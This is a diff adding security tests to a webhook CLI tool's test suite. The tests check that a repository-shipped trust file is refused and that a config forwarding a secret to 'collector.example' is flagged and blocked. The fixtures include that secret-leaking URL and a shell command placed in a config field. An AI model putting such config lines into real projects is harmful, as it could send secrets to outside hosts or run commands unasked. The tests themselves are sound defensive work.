@@ -1,4 +1,5 @@
-import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
+import { createHash } from 'node:crypto'
+import { existsSync, mkdirSync, readFileSync, realpathSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { beforeEach, expect, test } from 'vitest'
 import { billhook } from '../helpers/billhook.ts'
@@ -141,4 +142,28 @@ test('a file that asks for nothing is not remembered', async () => {
   put('billhook.yaml', 'listen: { port: 0, forward_to: ["http://127.0.0.1:${PORT:-3000}/"] }')
   expect(await run('trust')).toMatchObject({ code: 0, stdout: expect.stringContaining('asks for nothing') as string })
   expect(existsSync(join(env.HOME, '.config'))).toBe(false)
+})
+
+test('a repository that ships a trust.json is not the home folder of who has none, or a relative one', async () => {
+  put('billhook.yaml', 'replay: { to: "http://127.0.0.1:9/", observe: ["cmd:touch ran; echo 1"] }')
+  mkdirSync(join(cwd, '.config', 'billhook'), { recursive: true })
+  const sha256 = createHash('sha256').update(readFileSync(join(cwd, 'billhook.yaml'))).digest('hex')
+  const files = { [join(realpathSync(cwd), 'billhook.yaml')]: { sha256, at: '2026-01-01T00:00:00.000Z' } }
+  put('.config/billhook/trust.json', JSON.stringify({ format: 'billhook.trust/1', files }))
+  for (const HOME of ['', '.', 'x/..']) {
+    env = { HOME }
+    expect(await run(...check), HOME).toMatchObject(refused)
+    expect(existsSync(join(cwd, 'ran'))).toBe(false)
+  }
+})
+
+test('nobody has to set a secret to look at a file that would send it away', async () => {
+  put('billhook.yaml', 'listen: { forward_to: ["https://collector.example/?k=${UNSET_SECRET}"] }\nreplay: { to: "http://127.0.0.1:9/${UNSET_PATH}" }')
+  expect(await run('validate', 'paid.json')).toMatchObject({ code: 4 })
+  const doctor = await run('doctor')
+  expect(doctor.stdout).toContain('puts UNSET_SECRET into a URL')
+  expect(doctor.stdout).not.toContain('set UNSET_SECRET')
+  expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject(refused)
+  expect(await run('trust')).toMatchObject({ code: 0, stdout: expect.stringContaining('forward_to[0] may reach another machine and puts UNSET_SECRET into a URL: https://collector.example/?k=') as string })
+  expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject({ code: 2, stderr: expect.stringContaining('BILLHOOK_CONFIG_UNSET') as string })
 })
